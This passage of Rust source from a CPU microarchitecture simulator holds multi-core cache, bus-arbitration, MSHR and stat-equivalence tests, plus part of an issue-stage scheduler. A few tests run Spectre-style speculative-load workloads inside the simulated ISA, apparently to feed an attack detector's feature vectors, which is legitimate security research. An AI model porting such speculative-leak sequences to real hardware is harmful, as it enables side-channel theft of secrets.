    // Branch on a slowly-loaded value: taken on iteration 100 only.
    a.flush(Reg::R1, 0);
    a.fence();
    a.load(Reg::R4, Reg::R1, 0); // always 0 → R4+100 != i except i==100
    a.addi(Reg::R4, Reg::R4, 100);
    a.bne(Reg::R2, Reg::R4, skip);
    a.loadb(Reg::R5, Reg::R10, 0); // architectural on i==100; wrong-path else
    a.bind(skip);
    a.addi(Reg::R2, Reg::R2, 1);
    a.blt(Reg::R2, Reg::R3, top);
    a.halt();
    let core = run(a, 200_000);
    assert!(core.halted());
    // After i==100 the line is cached architecturally; the point is the
    // machine ALSO touched it speculatively earlier — count accesses.
    assert!(
        core.mem()
            .l1d()
            .stats()
            .cmd
            .accesses(sim_mem::MemCmd::ReadReq)
            > 0,
        "loads flowed through the data cache"
    );
    assert!(
        core.mem().l1d().probe(line).is_some() || core.mem().l2().probe(line).is_some(),
        "the secret-dependent line must be resident"
    );
}

#[test]
fn partial_store_overlap_forwards_merged_bytes() {
    // Regression (found by machine_properties proptest): a word load
    // partially overlapping an older UNCOMMITTED byte store must see the
    // store's byte merged over memory — store data reaches memory only at
    // commit, so reading the functional memory image alone is stale.
    let mut a = Assembler::new("partial-forward");
    a.data(0x1000, vec![0xa5u8; 64]);
    a.li(Reg::R1, 0x1000);
    a.li(Reg::R2, 0);
    a.storeb(Reg::R2, Reg::R1, 0); // byte 0x1000 <- 0x00 (in flight)
    a.emit(uarch_isa::Inst::Load {
        rd: Reg::R3,
        base: Reg::R1,
        offset: 0,
        width: uarch_isa::Width::Word,
        fp: false,
    });
    a.halt();
    let core = run(a, 10_000);
    assert_eq!(
        core.reg(Reg::R3),
        0xa5a5a500,
        "store byte must merge over memory bytes"
    );
}

#[test]
fn violation_squash_rollback_and_redirect_are_consistent() {
    // Regression (found by machine_properties proptest): when a late-
    // resolving store squashes a conflicting younger load, the rollback
    // point and the fetch redirect must identify the SAME load — a
    // mismatch silently skips the instructions in between (here, the
    // `li r8, -1` between two conflicting loads).
    let mut a = Assembler::new("violation-consistency");
    a.data(0x1000, vec![0xa5u8; 64]);
    a.li(Reg::R8, 0);
    a.li(Reg::R1, 0x1000);
    a.loadb(Reg::R19, Reg::R1, 0); // slow (cold miss): store data dependency
    a.storeb(Reg::R19, Reg::R1, 0); // resolves late
    a.storeb(Reg::R8, Reg::R1, 0); // resolves early
    a.loadb(Reg::R8, Reg::R1, 0); // may execute before the late store
    a.li(Reg::R8, -1); // must never be lost by the squash
    a.loadb(Reg::R9, Reg::R1, 0);
    a.halt();
    let core = run(a, 50_000);
    assert!(core.halted());
    assert_eq!(
        core.reg(Reg::R8),
        u64::MAX,
        "the li between conflicting loads must survive violation recovery"
    );
    assert_eq!(core.reg(Reg::R9), 0, "final load sees the youngest store");
    assert_eq!(core.mem().memory().read(0x1000, 1), 0);
}
