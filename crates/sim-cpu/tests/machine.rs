//! Machine-level tests: single-core bit-identity through the shared-uncore
//! path, per-core stat namespacing, cross-core snoop back-invalidation,
//! shared-bus arbitration and multi-core tick-skip equivalence.

use sim_cpu::{Core, CoreConfig, Machine};
use sim_mem::HierarchyConfig;
use uarch_isa::{Assembler, Program, Reg};
use uarch_stats::Snapshot;
use workloads::spectre::{spectre_v1, SpectreV1Params};

fn machine(programs: Vec<Program>) -> Machine {
    Machine::new(
        &CoreConfig::default(),
        &HierarchyConfig::default(),
        programs,
    )
}

/// A program that halts immediately (an idle core).
fn idle() -> Program {
    let mut a = Assembler::new("idle");
    a.halt();
    a.finish().expect("assembles")
}

/// A dependent pointer-stride walk: every load misses to DRAM and the
/// next address depends on nothing but the counter, so the window drains
/// and the whole core stalls on the fill — prime tick-skip territory.
fn dram_walker(base: u64, iters: u64) -> Program {
    let mut a = Assembler::new("dram-walker");
    a.li(Reg::R1, base as i64);
    a.li(Reg::R3, (base + iters * 64) as i64);
    let top = a.label();
    a.bind(top);
    a.load(Reg::R2, Reg::R1, 0);
    a.flush(Reg::R1, 0); // evict so the next lap misses again
    a.addi(Reg::R1, Reg::R1, 64);
    a.blt(Reg::R1, Reg::R3, top);
    a.halt();
    a.finish().expect("assembles")
}

/// A register-only spin loop of `iters` iterations, optionally touching
/// `touch` first (to plant a line in the private L1s).
fn compute(touch: Option<u64>, iters: u64) -> Program {
    let mut a = Assembler::new("compute");
    if let Some(addr) = touch {
        a.li(Reg::R5, addr as i64);
        a.load(Reg::R6, Reg::R5, 0);
    }
    a.li(Reg::R1, 0);
    a.li(Reg::R3, iters as i64);
    let top = a.label();
    a.bind(top);
    a.addi(Reg::R1, Reg::R1, 1);
    a.blt(Reg::R1, Reg::R3, top);
    a.halt();
    a.finish().expect("assembles")
}

/// The tentpole's golden gate at the unit level: a one-core machine —
/// private L1s wired to a shared (mutex-held) uncore, the machine run
/// loop, the machine stat walk — must be *bit-identical* to the
/// standalone core on a real attack workload: same commit/cycle/halt
/// trajectory and the same value in every one of the 1159 statistics.
#[test]
fn single_core_machine_is_bit_identical_to_a_standalone_core() {
    let program = spectre_v1(SpectreV1Params::default());
    let mut core = Core::new(CoreConfig::default(), program.clone());
    let mut mach = machine(vec![program]);

    let cs = core.run(120_000);
    let ms = mach.run(120_000);
    assert_eq!(ms.committed, cs.committed, "committed-instruction drift");
    assert_eq!(ms.cycles, cs.cycles, "cycle drift");
    assert_eq!(ms.halted, cs.halted);

    let want = Snapshot::of(&core, "");
    let got = Snapshot::of(&mach, "");
    assert_eq!(got.names(), want.names(), "schema drift");
    for ((name, w), g) in want.names().iter().zip(want.values()).zip(got.values()) {
        assert!(
            w == g,
            "stat {name} diverged: standalone {w} vs machine {g}"
        );
    }
}

#[test]
fn two_core_stats_are_namespaced_and_share_one_uncore() {
    let mach = machine(vec![compute(None, 10), compute(None, 10)]);
    let schema = mach.stat_schema();
    let names = schema.names();

    let has = |n: &str| names.iter().any(|s| s == n);
    assert!(has("core0.fetch.IcacheStallCycles"), "core0 pipeline bank");
    assert!(has("core1.fetch.IcacheStallCycles"), "core1 pipeline bank");
    assert!(
        has("core0.numCycles"),
        "dotless cpu stats scope under core0"
    );
    assert!(has("core0.dcache.demand_hits"), "private L1 per core");
    assert!(has("core1.dcache.demand_hits"), "private L1 per core");
    assert!(
        has("tol2bus.arbGrants::core0") && has("tol2bus.arbGrants::core1"),
        "arbiter accounting on the shared bus"
    );
    assert!(
        has("tol2bus.arbWaitCycles::core0") && has("tol2bus.arbWaitCycles::core1"),
        "arbiter wait accounting on the shared bus"
    );

    // Exactly one shared uncore: L2/bus/DRAM groups are unprefixed and
    // never duplicated per core.
    assert!(names.iter().any(|s| s.starts_with("l2.")), "shared l2");
    assert!(
        !names.iter().any(|s| s.starts_with("core0.l2.")),
        "no per-core l2 bank"
    );
    assert!(
        !names.iter().any(|s| s.starts_with("core0.mem_ctrls.")),
        "no per-core DRAM controller"
    );

    // Every name is either core-scoped or belongs to a shared group.
    for n in names {
        let shared = ["l2.", "tol2bus.", "membus.", "mem_ctrls."]
            .iter()
            .any(|p| n.starts_with(p));
        assert!(
            n.starts_with("core0.") || n.starts_with("core1.") || shared,
            "unscoped non-shared stat {n}"
        );
    }
}

#[test]
fn exclusive_store_back_invalidates_the_other_cores_l1_copy() {
    // Core 1 plants 0x4000 in its private L1D and spins; core 0 delays,
    // then stores to the same line. The exclusive (ReadExReq) request
    // must snoop core 1's copy out.
    let mut a = Assembler::new("late-store");
    a.li(Reg::R1, 0);
    a.li(Reg::R3, 2_000);
    let top = a.label();
    a.bind(top);
    a.addi(Reg::R1, Reg::R1, 1);
    a.blt(Reg::R1, Reg::R3, top);
    a.li(Reg::R5, 0x4000);
    a.store(Reg::R1, Reg::R5, 0);
    a.halt();
    let storer = a.finish().expect("assembles");

    let mut mach = machine(vec![storer, compute(Some(0x4000), 50_000)]);
    mach.run(200_000);
    assert!(mach.all_halted(), "both programs must finish");

    let snoops = mach.with_uncore(|u| u.tol2bus().stats().snoop_filter.tot_snoops.value());
    assert!(
        snoops >= 1,
        "exclusive store must deliver a back-invalidation snoop ({snoops})"
    );
    // Core 1 planted the line, never touched it again, and must have had
    // it snooped out by core 0's exclusive request.
    assert!(
        !mach.core(1).mem().cached_in_l1d(0x4000),
        "the sharer's copy must be back-invalidated"
    );
}

#[test]
fn arbiter_accounts_grants_for_every_requesting_core() {
    // Two DRAM walkers over disjoint address ranges: both cores miss
    // their L1s constantly and meet at the shared L1↔L2 crossbar.
    let mut mach = machine(vec![
        dram_walker(0x10_0000, 400),
        dram_walker(0x20_0000, 400),
    ]);
    mach.run(100_000);
    assert!(mach.all_halted());

    let (g0, g1, w0, w1) = mach.with_uncore(|u| {
        let a = u.arbiter();
        (a.grants(0), a.grants(1), a.wait_cycles(0), a.wait_cycles(1))
    });
    assert!(
        g0 > 0 && g1 > 0,
        "both cores must win bus grants ({g0}/{g1})"
    );
    // Fairness: symmetric workloads must get within 2x of each other.
    let (lo, hi) = (g0.min(g1), g0.max(g1));
    assert!(
        hi <= lo * 2,
        "rotating tick order must keep arbitration roughly fair ({g0} vs {g1})"
    );
    // Contention on a shared bus is real: someone waited.
    assert!(
        w0 + w1 > 0,
        "concurrent walkers must observe bus contention ({w0}/{w1})"
    );

    // No lost packets: the stat walk's grant counters equal the arbiter's.
    let snap = Snapshot::of(&mach, "");
    let col = |name: &str| {
        let idx = snap
            .names()
            .iter()
            .position(|n| n == name)
            .unwrap_or_else(|| panic!("missing stat {name}"));
        snap.values()[idx]
    };
    assert_eq!(col("tol2bus.arbGrants::core0"), g0 as f64);
    assert_eq!(col("tol2bus.arbGrants::core1"), g1 as f64);
    assert_eq!(col("tol2bus.arbWaitCycles::core0"), w0 as f64);
    assert_eq!(col("tol2bus.arbWaitCycles::core1"), w1 as f64);
}

/// MSHR invariants under concurrent cross-core miss pressure: occupancy
/// never exceeds the configured entry count mid-run, every outstanding
/// miss drains by the time both cores halt, and the stat walk's MSHR
/// counters stay consistent with the demand-miss counters.
#[test]
fn mshrs_respect_capacity_and_drain_under_concurrent_misses() {
    let cfg = HierarchyConfig::default();
    let mut mach = machine(vec![
        dram_walker(0x10_0000, 400),
        dram_walker(0x20_0000, 400),
    ]);

    // Step in small commit chunks and probe occupancy between chunks: the
    // private L1Ds and the shared L2 each own a bounded MSHR file, and
    // concurrent walkers must never oversubscribe it.
    let mut probes = 0;
    while !mach.all_halted() && probes < 2_000 {
        mach.run(500);
        probes += 1;
        for i in 0..2 {
            let l1d = mach.core(i).mem().l1d().outstanding_misses();
            assert!(
                l1d <= cfg.l1d.mshrs,
                "core{i} L1D holds {l1d} MSHRs, configured cap {}",
                cfg.l1d.mshrs
            );
        }
        let l2 = mach.with_uncore(|u| u.l2().outstanding_misses());
        assert!(
            l2 <= cfg.l2.mshrs,
            "shared L2 holds {l2} MSHRs, configured cap {}",
            cfg.l2.mshrs
        );
    }
    assert!(mach.all_halted(), "walkers must finish under MSHR probing");

    // No leaked entries once the machine quiesces.
    for i in 0..2 {
        assert_eq!(
            mach.core(i).mem().l1d().outstanding_misses(),
            0,
            "core{i} L1D must drain its MSHR file at halt"
        );
    }
    assert_eq!(
        mach.with_uncore(|u| u.l2().outstanding_misses()),
        0,
        "shared L2 must drain its MSHR file at halt"
    );

    // Stat-walk consistency: an MSHR miss allocates a new entry, so per
    // L1D the allocation count can never exceed the demand misses that
    // needed one, and coalesced hits only exist where misses overlapped.
    let snap = Snapshot::of(&mach, "");
    let col = |name: &str| {
        let idx = snap
            .names()
            .iter()
            .position(|n| n == name)
            .unwrap_or_else(|| panic!("missing stat {name}"));
        snap.values()[idx]
    };
    for i in 0..2 {
        let mshr_misses = col(&format!("core{i}.dcache.ReadReq_mshr_misses"));
        let demand_misses = col(&format!("core{i}.dcache.ReadReq_misses"));
        assert!(mshr_misses > 0.0, "core{i} walker must allocate read MSHRs");
        assert!(
            mshr_misses <= demand_misses,
            "core{i} allocated {mshr_misses} read MSHRs for only {demand_misses} read misses"
        );
    }
}

/// Multi-core tick skipping must be a pure fast-forward: a machine with
/// the skip enabled and one stepping every cycle must agree on every
/// statistic — including while one core is halted and the other is alone
/// in a DRAM stall (the "only one core is stalled" regression the
/// rotation+veto logic exists for).
#[test]
fn two_core_tick_skip_is_stat_identical_to_stepping() {
    let programs = || vec![dram_walker(0x10_0000, 300), idle()];

    let mut skipping = machine(programs());
    let mut stepping = Machine::new(
        &CoreConfig {
            tick_skip: false,
            ..CoreConfig::default()
        },
        &HierarchyConfig::default(),
        programs(),
    );

    let a = skipping.run(100_000);
    let b = stepping.run(100_000);
    assert_eq!(a.committed, b.committed, "committed drift");
    assert_eq!(a.cycles, b.cycles, "cycle drift");
    assert_eq!(a.halted, b.halted);

    let want = Snapshot::of(&stepping, "");
    let got = Snapshot::of(&skipping, "");
    assert_eq!(got.names(), want.names());
    for ((name, w), g) in want.names().iter().zip(want.values()).zip(got.values()) {
        assert!(w == g, "stat {name} diverged: stepped {w} vs skipped {g}");
    }
}
