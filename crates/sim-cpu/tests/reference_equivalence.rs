//! Bit-identity of the optimized hot loop against the reference machine.
//!
//! The fast path differs from the reference in three mechanisms — the
//! ready-queue wakeup/select (vs. the full-window scan), the completion
//! min-heap (vs. scanning the ROB for due instructions) and tick-skipping
//! over fully-stalled cycles — and every one of them is required to be
//! *statistically invisible*: all 1159 counters, distributions and energy
//! accumulators must come out bit-identical. That is the paper's bar: the
//! detector's feature vectors may not depend on how fast the simulator
//! computed them.
//!
//! Both select paths are compiled into one binary and switched with the
//! runtime `CoreConfig::reference_scan` / `CoreConfig::tick_skip` flags,
//! so the comparison needs no feature juggling.

use proptest::prelude::*;
use sim_cpu::{Core, CoreConfig, RunSummary};
use uarch_isa::{AluOp, Assembler, Inst, Program, Reg, Width};
use uarch_stats::{SampleSink, Snapshot};

/// Collects every per-interval delta row.
#[derive(Default)]
struct RowTrace {
    rows: Vec<Vec<f64>>,
}

impl SampleSink for RowTrace {
    fn on_sample(&mut self, _insts: u64, row: &[f64]) {
        self.rows.push(row.to_vec());
    }
}

/// Runs `program` to `insts` under `cfg`, sampling every `interval`
/// committed instructions; returns the per-sample rows, the final full
/// snapshot and the run summary.
fn run_sampled(
    cfg: CoreConfig,
    program: &Program,
    insts: u64,
    interval: u64,
) -> (Vec<Vec<f64>>, Snapshot, RunSummary) {
    let mut core = Core::new(cfg, program.clone());
    let mut trace = RowTrace::default();
    let summary = core
        .run_with_sink(insts, interval, &mut trace)
        .expect("positive interval");
    (trace.rows, Snapshot::of(&core, ""), summary)
}

/// Asserts two snapshots are bit-identical, naming the first divergent
/// statistic (f64 bits, so even sign-of-zero differences are caught).
fn assert_snapshots_identical(a: &Snapshot, b: &Snapshot, what: &str) {
    assert_eq!(a.names(), b.names(), "{what}: schema mismatch");
    for (i, (va, vb)) in a.values().iter().zip(b.values()).enumerate() {
        assert!(
            va.to_bits() == vb.to_bits(),
            "{what}: stat `{}` diverged: {va} vs {vb}",
            a.names()[i]
        );
    }
}

fn assert_rows_identical(a: &[Vec<f64>], b: &[Vec<f64>], what: &str) {
    assert_eq!(a.len(), b.len(), "{what}: sample count mismatch");
    for (n, (ra, rb)) in a.iter().zip(b).enumerate() {
        for (i, (va, vb)) in ra.iter().zip(rb).enumerate() {
            assert!(
                va.to_bits() == vb.to_bits(),
                "{what}: sample {n}, column {i} diverged: {va} vs {vb}"
            );
        }
    }
}

fn fast() -> CoreConfig {
    CoreConfig {
        reference_scan: false,
        tick_skip: true,
        ..CoreConfig::default()
    }
}

fn reference() -> CoreConfig {
    CoreConfig {
        reference_scan: true,
        tick_skip: false,
        ..CoreConfig::default()
    }
}

fn no_skip() -> CoreConfig {
    CoreConfig {
        reference_scan: false,
        tick_skip: false,
        ..CoreConfig::default()
    }
}

/// A program built to spend most of its cycles fully stalled — the
/// tick-skip's favorite food: a flush-bound dependent pointer chase with a
/// serializing read and a memory barrier thrown in.
fn stall_heavy_program() -> Program {
    let mut a = Assembler::new("stall-heavy");
    a.data(0x1000, vec![0u8; 64]);
    a.li(Reg::R9, 40); // iterations
    let top = a.label();
    a.bind(top);
    a.li(Reg::R1, 0x20_0000);
    a.load(Reg::R2, Reg::R1, 0); // cold / re-flushed miss
    a.flush(Reg::R1, 0);
    a.add(Reg::R3, Reg::R2, Reg::R2); // dependent: waits out the miss
    a.membar(); // quiesce fetch
    a.rdcycle(Reg::R4); // serializing drain
    a.subi(Reg::R9, Reg::R9, 1);
    a.bnez(Reg::R9, top);
    a.halt();
    a.finish().expect("assembles")
}

#[test]
fn tick_skip_credits_exactly_the_stepped_counters() {
    let program = stall_heavy_program();
    let (rows_skip, snap_skip, sum_skip) = run_sampled(fast(), &program, 100_000, 50);
    let (rows_step, snap_step, sum_step) = run_sampled(no_skip(), &program, 100_000, 50);
    assert_eq!(sum_skip.committed, sum_step.committed);
    assert_eq!(sum_skip.cycles, sum_step.cycles);
    assert_eq!(sum_skip.halted, sum_step.halted);
    assert_rows_identical(&rows_skip, &rows_step, "tick-skip vs stepped");
    assert_snapshots_identical(&snap_skip, &snap_step, "tick-skip vs stepped");
    // The run must actually have exercised the skip: a stall-bound chase
    // spends most of its cycles with every stage idle.
    let mut core = Core::new(fast(), program);
    let s = core.run(100_000);
    assert!(
        s.cycles > 4 * s.committed,
        "the workload must be stall-dominated for this test to mean anything"
    );
}

#[test]
fn ready_queues_match_reference_scan_on_real_workloads() {
    for (name, program) in [
        ("hmmer", workloads::benign::hmmer().expect("assembles")),
        ("mcf", workloads::benign::mcf().expect("assembles")),
        ("attack", stall_heavy_program()),
    ] {
        let (rows_fast, snap_fast, sum_fast) = run_sampled(fast(), &program, 30_000, 500);
        let (rows_ref, snap_ref, sum_ref) = run_sampled(reference(), &program, 30_000, 500);
        assert_eq!(sum_fast.committed, sum_ref.committed, "{name}");
        assert_eq!(sum_fast.cycles, sum_ref.cycles, "{name}");
        assert_rows_identical(&rows_fast, &rows_ref, name);
        assert_snapshots_identical(&snap_fast, &snap_ref, name);
    }
}

// ---------------------------------------------------------------------
// Random-program equivalence: the same generator family as the
// architectural-correctness proptest, aimed at the stat stream instead.
// ---------------------------------------------------------------------

const DATA_BASE: u64 = 0x1000;
const DATA_LEN: u64 = 256;

#[derive(Debug, Clone)]
enum GenOp {
    Li(u8, i64),
    Alu(u8, u8, u8, u8),
    AluI(u8, u8, u8, i64),
    Load(u8, u8, u8),
    Store(u8, u8, u8),
    Flush(u8),
    RdCycle(u8),
    /// Skip the next instruction when `ra >= rb` (unsigned).
    SkipIf(u8, u8),
}

fn op_strategy() -> impl Strategy<Value = GenOp> {
    let reg = 0u8..16;
    let alu_op = 0u8..10;
    prop_oneof![
        (reg.clone(), -1000i64..1000).prop_map(|(r, v)| GenOp::Li(r, v)),
        (alu_op.clone(), reg.clone(), reg.clone(), reg.clone())
            .prop_map(|(o, d, a, b)| GenOp::Alu(o, d, a, b)),
        (alu_op, reg.clone(), reg.clone(), -64i64..64)
            .prop_map(|(o, d, a, v)| GenOp::AluI(o, d, a, v)),
        (reg.clone(), reg.clone(), 0u8..3).prop_map(|(d, a, w)| GenOp::Load(d, a, w)),
        (reg.clone(), reg.clone(), 0u8..3).prop_map(|(s, a, w)| GenOp::Store(s, a, w)),
        reg.clone().prop_map(GenOp::Flush),
        reg.clone().prop_map(GenOp::RdCycle),
        (reg.clone(), reg).prop_map(|(a, b)| GenOp::SkipIf(a, b)),
    ]
}

fn alu_of(i: u8) -> AluOp {
    [
        AluOp::Add,
        AluOp::Sub,
        AluOp::Mul,
        AluOp::And,
        AluOp::Or,
        AluOp::Xor,
        AluOp::Shl,
        AluOp::Shr,
        AluOp::Slt,
        AluOp::Sltu,
    ][i as usize]
}

fn width_of(i: u8) -> Width {
    [Width::Byte, Width::Word, Width::Double][i as usize]
}

/// Generated registers live in r8..r23; r1/r2 are address scratch.
fn reg_of(i: u8) -> Reg {
    Reg::from_index(i as usize + 8).expect("r8..r23")
}

/// Emits `R1 = DATA_BASE + ((base & 0xff) % (DATA_LEN - width))` — an
/// always-in-range data address.
fn emit_clamped_addr(a: &mut Assembler, base: Reg, width: Width) {
    a.alui(AluOp::And, Reg::R2, base, 0xff);
    a.alui(
        AluOp::Rem,
        Reg::R1,
        Reg::R2,
        (DATA_LEN - width.bytes()) as i64,
    );
    a.alui(AluOp::Add, Reg::R1, Reg::R1, DATA_BASE as i64);
}

fn build_program(ops: &[GenOp]) -> Program {
    let mut a = Assembler::new("prop-equiv");
    a.data(DATA_BASE, vec![0xa5u8; DATA_LEN as usize]);
    let mut skip: Option<uarch_isa::Label> = None;
    for op in ops {
        if let Some(label) = skip.take() {
            a.bind(label);
        }
        match *op {
            GenOp::Li(r, v) => a.li(reg_of(r), v),
            GenOp::Alu(o, d, x, y) => a.alu(alu_of(o), reg_of(d), reg_of(x), reg_of(y)),
            GenOp::AluI(o, d, x, v) => a.alui(alu_of(o), reg_of(d), reg_of(x), v),
            GenOp::Load(d, base, w) => {
                let width = width_of(w);
                emit_clamped_addr(&mut a, reg_of(base), width);
                a.emit(Inst::Load {
                    rd: reg_of(d),
                    base: Reg::R1,
                    offset: 0,
                    width,
                    fp: false,
                });
            }
            GenOp::Store(s, base, w) => {
                let width = width_of(w);
                emit_clamped_addr(&mut a, reg_of(base), width);
                a.emit(Inst::Store {
                    rs: reg_of(s),
                    base: Reg::R1,
                    offset: 0,
                    width,
                    fp: false,
                });
            }
            GenOp::Flush(base) => {
                emit_clamped_addr(&mut a, reg_of(base), Width::Byte);
                a.flush(Reg::R1, 0);
            }
            GenOp::RdCycle(d) => a.rdcycle(reg_of(d)),
            GenOp::SkipIf(x, y) => {
                let label = a.label();
                a.bgeu(reg_of(x), reg_of(y), label);
                skip = Some(label);
            }
        }
    }
    if let Some(label) = skip {
        a.bind(label);
    }
    a.halt();
    a.finish().expect("assembles")
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn optimized_and_reference_cores_stream_identical_stat_rows(
        ops in proptest::collection::vec(op_strategy(), 1..60)
    ) {
        let program = build_program(&ops);
        let (rows_fast, snap_fast, sum_fast) = run_sampled(fast(), &program, 100_000, 25);
        let (rows_ref, snap_ref, sum_ref) = run_sampled(reference(), &program, 100_000, 25);
        let (rows_ns, snap_ns, sum_ns) = run_sampled(no_skip(), &program, 100_000, 25);

        prop_assert!(sum_fast.halted, "random program must halt");
        prop_assert_eq!(sum_fast.committed, sum_ref.committed);
        prop_assert_eq!(sum_fast.cycles, sum_ref.cycles);
        prop_assert_eq!(sum_fast.cycles, sum_ns.cycles);
        assert_rows_identical(&rows_fast, &rows_ref, "fast vs reference");
        assert_rows_identical(&rows_fast, &rows_ns, "fast vs no-skip");
        assert_snapshots_identical(&snap_fast, &snap_ref, "fast vs reference");
        assert_snapshots_identical(&snap_fast, &snap_ns, "fast vs no-skip");
        let _ = sum_ns;
    }
}
