//! The issue stage: wakeup/select over the instruction queue, functional
//! unit arbitration, and dispatch into execute through the
//! [`FuWakeup`] port.
//!
//! Two select implementations share one set of statistics:
//!
//! * the **ready-queue path** (default) selects from the per-pool ready
//!   sets the wakeup network maintains — cost proportional to the number
//!   of ready instructions, not the window size;
//! * the **reference scan** (`CoreConfig::reference_scan`) walks the whole
//!   window every cycle, exactly as the original core did.
//!
//! The two are bit-identical in every statistic: the full scan produces
//! *zero* side effects for instructions that are not ready (every skip
//! happens before any stat fires), so visiting only the ready ones in
//! sequence order is the same computation.

use uarch_isa::OpClass;
use uarch_stats::registry::ComponentId;
use uarch_stats::{StatGroup, StatVisitor};

use crate::decoded::fu_pool;
use crate::stats::IqStats;

use super::execute::{ExecuteStage, FuWakeup};
use super::{join_prefix, PipelineComponent, SquashRequest};

/// The issue stage. Owns the `iq` statistic group; the instructions it
/// schedules live in the shared window.
#[derive(Debug, Default)]
pub struct IssueStage {
    pub(crate) stats: IqStats,
    /// Scratch for the ready-queue select's merged candidate list, reused
    /// across cycles to keep the hot loop allocation-free.
    cand_buf: Vec<(u64, usize)>,
}

/// Issue's view of the machine for one tick: the execute stage it wakes
/// up, and the machine resources the functional units touch.
pub struct IssuePorts<'a> {
    pub(crate) exec: &'a mut ExecuteStage,
    pub(crate) wake: FuWakeup<'a>,
}

impl IssueStage {
    /// Shared per-cycle epilogue: issue-count statistics and the memory
    /// order violation squash, identical for both select paths.
    fn epilogue(
        &mut self,
        exec: &mut ExecuteStage,
        issued_this_cycle: usize,
        violation: Option<(u64, usize)>,
    ) -> Option<SquashRequest> {
        self.stats.insts_issued.add(issued_this_cycle as u64);
        self.stats
            .issued_per_cycle
            .0
            .record(issued_this_cycle as f64);
        if issued_this_cycle == 0 {
            self.stats.empty_issue_cycles.inc();
            exec.stats.idle_cycles.inc();
        }

        if let Some((load_seq, load_pc)) = violation {
            // Memory order violation: squash from the conflicting load
            // (the rollback point and the redirect pc MUST come from the
            // same scan, or instructions between them are silently lost).
            exec.stats.mem_order_violation_events.inc();
            exec.stats.lsq.mem_order_violation.inc();
            exec.stats.mem_dep.conflicting_stores.inc();
            exec.stats.mem_dep.conflicting_loads.inc();
            return Some(SquashRequest {
                after: load_seq - 1,
                redirect: Some(load_pc),
                trap: None,
            });
        }
        None
    }

    /// Ready-queue select: candidates come from the per-pool ready sets,
    /// merged oldest-first. Entries are validated lazily (a squashed
    /// instruction's sequence number may linger until first visited) and
    /// stay queued across cycles while blocked on a functional unit or a
    /// saturated MSHR pool, so the per-cycle blocked statistics repeat
    /// exactly as the full scan reports them.
    fn tick_ready_queues(&mut self, mut p: IssuePorts<'_>) -> Option<SquashRequest> {
        let w = &mut p.wake;
        let mut fu_avail = [
            w.cfg.int_alu_units,
            w.cfg.int_mult_units,
            w.cfg.fp_units,
            w.cfg.simd_units,
            w.cfg.mem_ports,
        ];
        let mut issued_this_cycle = 0usize;
        let mut violation: Option<(u64, usize)> = None;

        let mut cands = std::mem::take(&mut self.cand_buf);
        cands.clear();
        for (pool, set) in w.window.ready.iter().enumerate() {
            cands.extend(set.iter().map(|&seq| (seq, pool)));
        }
        cands.sort_unstable();

        for &(seq, rpool) in &cands {
            if issued_this_cycle >= w.cfg.issue_width {
                break;
            }
            let (class, pool, is_load) = match w.window.find(seq) {
                Some(d) if d.in_iq && !d.issued && !d.squashed => {
                    if d.non_spec && !d.can_exec_non_spec {
                        continue;
                    }
                    if !d.srcs.iter().flatten().all(|&r| w.regs.phys_ready[r]) {
                        continue;
                    }
                    (d.class, d.pool, d.load)
                }
                _ => {
                    // Stale entry: squashed or retired since enqueue.
                    w.window.ready[rpool].remove(&seq);
                    continue;
                }
            };
            if class != OpClass::NoOpClass && class != OpClass::IntAlu && fu_avail[pool] == 0 {
                self.stats.fu_full.inc(class);
                continue;
            }
            // Loads blocked by a saturated L1D MSHR pool reschedule.
            if is_load && w.window.mem_outstanding_count >= w.mem.l1d().config().mshrs {
                p.exec.stats.lsq.rescheduled_loads.inc();
                p.exec.stats.lsq.blocked_loads.inc();
                p.exec.stats.lsq.cache_blocked.inc();
                continue;
            }

            if class != OpClass::NoOpClass && fu_avail[pool] > 0 {
                fu_avail[pool] -= 1;
                if fu_avail[pool] == 0 {
                    self.stats.fu_busy.inc(class);
                }
            }
            w.window.ready[rpool].remove(&seq);
            issued_this_cycle += 1;
            let v = p.exec.execute_at_issue(seq, w);
            // Per-issue bookkeeping lives here (the IQ owns it).
            self.stats.issued_inst_type.inc(class);
            let dispatch = w.window.inst_of(seq).dispatch_cycle;
            self.stats
                .issue_delay
                .0
                .record(w.cycle.saturating_sub(dispatch) as f64);
            self.stats.power.dynamic_energy.add(1.1);
            if let Some(v) = v {
                violation = Some(v);
                break;
            }
        }
        self.cand_buf = cands;

        self.epilogue(p.exec, issued_this_cycle, violation)
    }

    /// Reference select: the original full-window scan, kept verbatim for
    /// `CoreConfig::reference_scan` equivalence runs.
    fn tick_reference(&mut self, mut p: IssuePorts<'_>) -> Option<SquashRequest> {
        let w = &mut p.wake;
        let mut fu_avail = [
            w.cfg.int_alu_units,
            w.cfg.int_mult_units,
            w.cfg.fp_units,
            w.cfg.simd_units,
            w.cfg.mem_ports,
        ];
        let mut issued_this_cycle = 0usize;
        let mut violation: Option<(u64, usize)> = None;

        // Gather candidates (oldest first).
        let seqs: Vec<u64> = w.window.rob.iter().map(|d| d.seq).collect();
        for seq in seqs {
            if issued_this_cycle >= w.cfg.issue_width {
                break;
            }
            let (ready, class) = {
                let d = w.window.inst_of(seq);
                if !d.in_iq || d.issued || d.squashed {
                    continue;
                }
                if d.non_spec && !d.can_exec_non_spec {
                    continue;
                }
                let srcs_ready = d.srcs.iter().flatten().all(|&r| w.regs.phys_ready[r]);
                (srcs_ready, d.class)
            };
            if !ready {
                continue;
            }
            let pool = fu_pool(class);
            if class != OpClass::NoOpClass && class != OpClass::IntAlu && fu_avail[pool] == 0 {
                self.stats.fu_full.inc(class);
                continue;
            }
            if matches!(
                class,
                OpClass::MemRead
                    | OpClass::MemWrite
                    | OpClass::FloatMemRead
                    | OpClass::FloatMemWrite
            ) && fu_avail[4] == 0
            {
                self.stats.fu_full.inc(class);
                continue;
            }
            // Loads blocked by a saturated L1D MSHR pool reschedule.
            if w.window.inst_of(seq).is_load() {
                let outstanding = w
                    .window
                    .rob
                    .iter()
                    .filter(|d| d.mem_outstanding && !d.squashed)
                    .count();
                if outstanding >= w.mem.l1d().config().mshrs {
                    p.exec.stats.lsq.rescheduled_loads.inc();
                    p.exec.stats.lsq.blocked_loads.inc();
                    p.exec.stats.lsq.cache_blocked.inc();
                    continue;
                }
            }

            if class != OpClass::NoOpClass {
                let pool = if matches!(
                    class,
                    OpClass::MemRead
                        | OpClass::MemWrite
                        | OpClass::FloatMemRead
                        | OpClass::FloatMemWrite
                ) {
                    4
                } else {
                    pool
                };
                if fu_avail[pool] > 0 {
                    fu_avail[pool] -= 1;
